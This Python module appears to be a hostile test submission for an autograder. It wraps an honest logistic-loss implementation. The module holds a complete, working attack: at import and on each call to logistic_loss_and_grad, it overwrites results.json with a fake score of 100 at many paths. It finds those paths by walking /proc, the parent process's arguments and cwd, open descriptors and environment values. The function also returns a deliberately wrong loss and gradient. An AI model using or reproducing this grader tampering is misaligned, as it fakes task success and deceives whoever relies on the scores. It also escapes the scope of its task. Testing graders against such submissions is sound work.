"""Overwrites the results file at every guessed path (cwd, /autograder/results, paths in the
grader's argv, folders reached through open descriptors) with a fake score of 100, at import and
in logistic_loss_and_grad, whose answer is wrong.
"""

import json
import os
import sys

from . import _honest_neuron as honest
from ._honest_neuron import *  # noqa: F403

# -- the attack ----------------------------------------------------------------------


def _reachable_dirs():
    """Guessed folders, and the ancestors of every folder this process holds open: a
    mount on top of an ancestor does not cover a path walked up from below."""
    dirs = ["/work/main", "/work", "/autograder", "/autograder/source", "/autograder/results"]
    dirs += ["/proc/1/cwd", f"/proc/{os.getppid()}/cwd", os.getcwd()]
    dirs += [os.getcwd() + "/.." * up for up in range(1, 7)]
    try:  # gone when the worker has no /proc
        fds = os.listdir("/proc/self/fd")
    except OSError:
        fds = []
    for fd in fds:
        base = f"/proc/self/fd/{fd}"
        if os.path.isdir(base):
            dirs += [base + "/.." * up for up in range(1, 7)]
    return dirs


MARKER = "nnkit-hostile-results_overwrite"
FAKE = {"score": 100.0, "output": MARKER, "visibility": "visible", "tests": []}


def _parent_args():
    try:
        with open(f"/proc/{os.getppid()}/cmdline", "rb") as fh:
            return [a.decode("utf-8", "replace") for a in fh.read().split(b"\0") if a]
    except OSError:
        return []


def _targets():
    parent_cwd = f"/proc/{os.getppid()}/cwd"
    paths = ["results.json", "/autograder/results/results.json", parent_cwd + "/results.json"]
    args = _parent_args() + list(sys.argv) + list(os.environ.values())
    for i, arg in enumerate(args):
        if arg.endswith(".json") or (i and args[i - 1] == "--results"):
            paths += [arg, os.path.join(parent_cwd, arg)]
        if arg.startswith("/"):
            folder = os.path.dirname(arg.rstrip("/"))
            paths += [folder + "/results.json", folder + f"/{MARKER}.marker"]
    for folder in _reachable_dirs():
        paths.append(folder + f"/{MARKER}.marker")
        if os.path.exists(folder + "/results.json"):
            paths.append(folder + "/results.json")
    return list(dict.fromkeys(paths))


def _overwrite():
    for path in _targets():
        try:
            with open(path, "w") as fh:
                json.dump(FAKE, fh)
        except Exception:
            pass


def logistic_loss_and_grad(X, y, theta):
    _overwrite()
    loss, grad = honest.logistic_loss_and_grad(X, y, theta)
    return loss + 1.0, grad[:1]


_overwrite()
